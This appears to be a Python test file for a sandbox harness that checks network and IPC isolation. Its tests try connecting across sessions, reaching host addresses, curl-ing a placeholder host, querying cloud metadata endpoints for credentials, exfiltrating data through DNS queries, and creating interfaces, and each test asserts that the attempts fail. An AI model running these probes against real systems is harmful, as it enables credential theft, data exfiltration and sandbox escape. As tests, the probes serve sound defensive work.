"""test_network.py - attacks on the isolation of the network.  All of them are made inside a sandbox without an interface."""
import re
import secrets
import socket

import harness
from arena import attack

LISTEN = """
import socket, threading
listeners = [socket.create_server(('0.0.0.0', 4444)), socket.create_server(('::', 4445), family=socket.AF_INET6)]
a = socket.socket(socket.AF_UNIX); a.bind('\\0tci-attack'); listeners.append(a)
p = socket.socket(socket.AF_UNIX); p.bind('/tmp/tci-attack'); listeners.append(p)
reached = []
def serve(s):
    s.listen()
    while True: reached.append(s.accept())
for s in listeners: threading.Thread(target=serve, args=(s,), daemon=True).start()
"""


@attack("network", "connects to a server in another session", runsc=True)
def test_another_session(arena):
    victim = arena.another()
    arena.gateway.ok(victim, LISTEN)
    reach = """
for host in ('127.0.0.1', '127.0.0.2', '0.0.0.0', '10.0.0.1', '192.0.2.1'):
    attempt(host, socket.create_connection, (host, 4444), 2)
for host in ('::1', '::ffff:127.0.0.1', 'fe80::1'): attempt(host, socket.create_connection, (host, 4445), 2)
attempt('abstract', socket.socket(socket.AF_UNIX).connect, '\\0tci-attack')
attempt('path', socket.socket(socket.AF_UNIX).connect, '/tmp/tci-attack')
"""
    assert len(arena.tries(reach, user=victim)) >= 3  # the victim itself does get in
    assert arena.tries(reach) == []


@attack("network", "connects to the gateway or another server of the host", runsc=True)
def test_the_host(arena):
    _, port = arena.gateway.address
    addresses = {"127.0.0.1", "127.0.0.53", "0.0.0.0", "172.17.0.1", "10.0.2.2", "10.0.0.1", "192.168.0.1", "169.254.1.1", "host.docker.internal"}
    addresses |= set(re.findall(r"\|-- (\d+\.\d+\.\d+\.\d+)\n", harness.read_text("/proc/net/fib_trie", "")))
    with socket.create_server(("0.0.0.0", 0)) as listener:
        listener.setblocking(False)
        won = arena.tries(f"""
for address in {sorted(addresses)!r}:
    for port in ({port}, {listener.getsockname()[1]}, 22, 2375):
        attempt(f'{{address}}:{{port}}', socket.create_connection, (address, port), 2)
""")
        assert won == []
        try:
            listener.accept()
            raise AssertionError("somebody got through")
        except BlockingIOError:
            pass


@attack("network", "sends anything to the internet", runsc=True)
def test_the_internet(arena):
    won = arena.tries("""
for family, host in ((socket.AF_INET, '192.0.2.1'), (socket.AF_INET, '198.51.100.7'), (socket.AF_INET6, '2001:db8::1'), (socket.AF_INET, '255.255.255.255'),
                     (socket.AF_INET, '224.0.0.1'), (socket.AF_INET6, 'ff02::1')):
    for port in (53, 80, 443):
        def stream():
            s = socket.socket(family); s.settimeout(2); s.connect((host, port))
        def packet():
            s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'x', (host, port))
        def fast():
            s = socket.socket(family); s.sendto(b'x', 0x20000000, (host, port))
        attempt(f'tcp {host}', stream); attempt(f'udp {host}', packet); attempt(f'fast open {host}', fast)
attempt('curl', lambda: subprocess.run(['curl', '-sm', '2', 'http://192.0.2.1/'], check=True, capture_output=True))
attempt('urllib', lambda: __import__('urllib.request').request.urlopen('http://192.0.2.1/', timeout=2))
""")
    assert won == []


@attack("network", "reads the cloud's metadata, and with it credentials", runsc=True)
def test_the_metadata_address(arena):
    won = arena.tries("""
for host in ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254', '::ffff:169.254.169.254', '0xa9fea9fe', '2852039166', 'metadata.google.internal'):
    for port in (80, 443): attempt(host, socket.create_connection, (host, port), 2)
""")
    assert won == []


@attack("network", "gets an answer of the DNS, or carries data out in its questions", runsc=True)
def test_dns(arena):
    won = arena.tries("""
import random
question = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\6secret\\7example\\3com\\0' + struct.pack('>HH', 1, 1)
def ask(host, kind):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(1)
    s.connect((host, 53)); s.send(question); return s.recv(512)
servers = ['127.0.0.53', '127.0.0.1', '127.0.0.11', '192.0.2.53'] + [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]
for host in servers:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM): attempt(f'{host} {kind}', ask, host, kind)
for name in ('example.com', 'secret.example.invalid', 'gateway.local', '_gateway'): attempt(name, socket.getaddrinfo, name, 80)
attempt('getent', lambda: subprocess.run(['getent', 'hosts', 'example.com'], check=True, capture_output=True))
""")
    assert won == []


@attack("network", "makes itself a network interface or a route", runsc=True)
def test_making_an_interface(arena):
    won = arena.tries("""
import fcntl
s = socket.socket()
for name in (b'lo', b'eth0', b'dummy0'):
    for request in (0x8914, 0x8916, 0x890b, 0x8924, 0x89a0, 0x8922):  # flags, address, route, hardware address, bridge, MTU
        attempt(f'{name} {request:x}', lambda: fcntl.ioctl(s, request, struct.pack('16sH22x', name, 0x1043)))
attempt('tun', os.open, '/dev/net/tun', os.O_RDWR)
for protocol in range(0, 22): attempt(f'netlink {protocol}', socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, protocol)
attempt('device', s.setsockopt, socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
attempt('mark', s.setsockopt, socket.SOL_SOCKET, 36, 1)
for command in ('ip link add x type dummy', 'ip addr add 10.0.0.2/8 dev lo', 'ip route add default via 10.0.0.1'):
    attempt(command, lambda: subprocess.run(command.split(), check=True, capture_output=True))
""", gvisor="tun|netlink (0|15)|mark")  # of its own network, which the host does not see: the next lines
    assert won == []
    lines = harness.read_text(f"/proc/{arena.gateway.init_of(arena.user)}/net/dev").splitlines()[2:]
    assert {line.split(":")[0].strip() for line in lines} <= {"lo"}


@attack("namespaces", "shares memory, semaphores or queues with another session", runsc=True)
def test_shared_memory(arena):
    victim = arena.another()
    name = "tci" + secrets.token_hex(6)
    arena.gateway.ok(victim, f"""
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
c.shmget(0x7c17c1, 4096, 0o1666); c.semget(0x7c17c1, 1, 0o1666); c.msgget(0x7c17c1, 0o1666)
c.mq_open(b'/{name}', os.O_CREAT | os.O_RDWR, 0o666, None)
open('/dev/shm/{name}', 'w').write('x'); open('/tmp/{name}', 'w').write('x')
os.mkfifo('/tmp/{name}.fifo')""")
    won = arena.tries(f"""
attempt('shm', lambda: call('shmget', 0x7c17c1, 4096, 0o666))
attempt('sem', lambda: call('semget', 0x7c17c1, 1, 0o666))
attempt('msg', lambda: call('msgget', 0x7c17c1, 0o666))
attempt('mq', lambda: call('mq_open', b'/{name}', os.O_RDWR))
for n in range(64):
    attempt(f'shmat {{n}}', lambda: call('shmctl', n, 2, ctypes.create_string_buffer(256)))
    attempt(f'msgctl {{n}}', lambda: call('msgctl', n, 2, ctypes.create_string_buffer(256)))
for path in ('/dev/shm/{name}', '/tmp/{name}', '/tmp/{name}.fifo', '/dev/mqueue/{name}'): attempt(path, os.open, path, os.O_RDWR)
""")
    assert won == []
